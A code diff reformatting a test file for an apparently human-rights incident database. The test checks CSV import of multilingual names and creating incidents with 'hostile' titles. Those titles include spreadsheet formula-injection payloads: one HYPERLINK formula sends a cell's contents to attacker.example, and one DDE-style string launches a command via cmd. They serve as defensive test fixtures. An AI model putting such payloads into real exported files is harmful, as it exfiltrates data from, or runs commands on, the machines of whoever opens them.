@@ -67,7 +67,8 @@ for (const kind of DATABASE_KINDS) {
     });
 
     it('imports people with names in several scripts, and refuses a file with an unknown column', async () => {
-      const people = 'kinds,names,birth_date\nvictim;witness,Пётр Вымышленный|official; Pyotr Vymyshlenny|transliteration,1980-02-30\nperpetrator,Аркадий Примеров,\n';
+      const people =
+        'kinds,names,birth_date\nvictim;witness,Пётр Вымышленный|official; Pyotr Vymyshlenny|transliteration,1980-02-30\nperpetrator,Аркадий Примеров,\n';
       const bad = (await client.request('POST', '/api/import/people', people, CSV)).json();
       expect(bad).toEqual({ imported: 0, errors: [{ line: 2, field: 'birthDate', message: expect.stringMatching(/does not exist/) }] });
       const good = (await client.request('POST', '/api/import/people', people.replace('1980-02-30', '1980-02-28'), CSV)).json();
@@ -84,11 +85,18 @@ for (const kind of DATABASE_KINDS) {
         '=HYPERLINK("http://attacker.example/?d="&C3,"open")',
         '-20°C in the punishment cell',
         '+7 detainees moved at night',
-        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
         "'=already quoted by someone",
       ];
       for (const [i, title] of hostile.entries()) {
-        const created = await client.request('POST', '/api/incidents', { titleRu: `Заголовок ${i}`, titleEn: title, descriptionRu: i === 0 ? '=1+2' : undefined, datePrecision: 'year', dateStart: '2024', documentationStatus: 'reported' });
+        const created = await client.request('POST', '/api/incidents', {
+          titleRu: `Заголовок ${i}`,
+          titleEn: title,
+          descriptionRu: i === 0 ? '=1+2' : undefined,
+          datePrecision: 'year',
+          dateStart: '2024',
+          documentationStatus: 'reported',
+        });
         expect(created.statusCode).toBe(201);
       }
 
